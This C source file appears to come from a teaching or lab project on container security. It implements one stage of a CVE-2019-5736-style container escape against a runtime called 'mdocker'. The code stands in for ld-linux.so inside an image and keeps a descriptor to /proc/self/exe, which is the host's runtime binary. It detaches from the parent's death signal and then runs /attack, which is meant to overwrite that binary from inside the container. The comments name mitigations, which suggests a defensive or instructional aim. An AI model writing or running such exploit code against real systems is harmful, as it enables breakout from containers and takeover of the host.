/*
 * exe.c: keep a way to the program that runs us, and execute /attack.
 *
 * This takes the place of ld-linux.so in an image.  A script that begins with
 * "#!/proc/self/exe" makes the kernel execute the program that was there until now, which
 * is mdocker's file on the host, and the kernel starts the image's ld-linux.so for it.
 * /proc/self/exe is then this file, for reading.  Through descriptor 3 the file can be
 * opened again for writing, as soon as nobody executes it any more (CVE-2019-5736).  This
 * needs no capability.  What closes it: the copy in memory (section 13), or a user
 * namespace in which the file belongs to nobody (18).
 *
 * Compile it with cc -static -nostartfiles -fno-stack-protector.  A libc would not start
 * here, because the kernel describes mdocker to it.
 */
#include <fcntl.h>
#include <signal.h>
#include <stddef.h>
#include <sys/prctl.h>
#include <sys/syscall.h>
#include <unistd.h>

void _start(void);
void _start(void)
{
	static char shell[] = "/bin/sh", script[] = "/attack";
	static char *arguments[] = { shell, script, NULL }, *none[] = { NULL };

	syscall(SYS_openat, AT_FDCWD, "/proc/self/exe", O_RDONLY);
	syscall(SYS_prctl, PR_SET_PDEATHSIG, 0, 0, 0, 0);	/* outlive mdocker */
	syscall(SYS_execve, shell, arguments, none);
	syscall(SYS_exit_group, 1);
}
